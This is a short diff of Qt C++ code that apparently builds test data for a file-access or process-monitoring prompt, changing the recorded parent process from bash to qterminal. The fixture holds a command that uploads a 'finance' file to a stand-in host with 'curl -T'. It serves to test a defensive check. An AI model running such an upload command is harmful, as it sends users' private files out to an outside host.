@@ -113,7 +113,7 @@ QVariantMap questionMap(quint64 id, const QString &file)
         {u"executable"_s, u"/usr/bin/curl"_s},
         {u"command"_s, QStringList{u"curl"_s, u"-T"_s, file, u"http://remote/"_s}},
         {u"comm"_s, u"curl"_s},
-        {u"parent"_s, u"bash"_s},
+        {u"parent"_s, u"qterminal"_s},
         {u"file"_s, file},
         {u"chain"_s, QStringList()},
         {u"categories"_s, QStringList{u"finance"_s}},
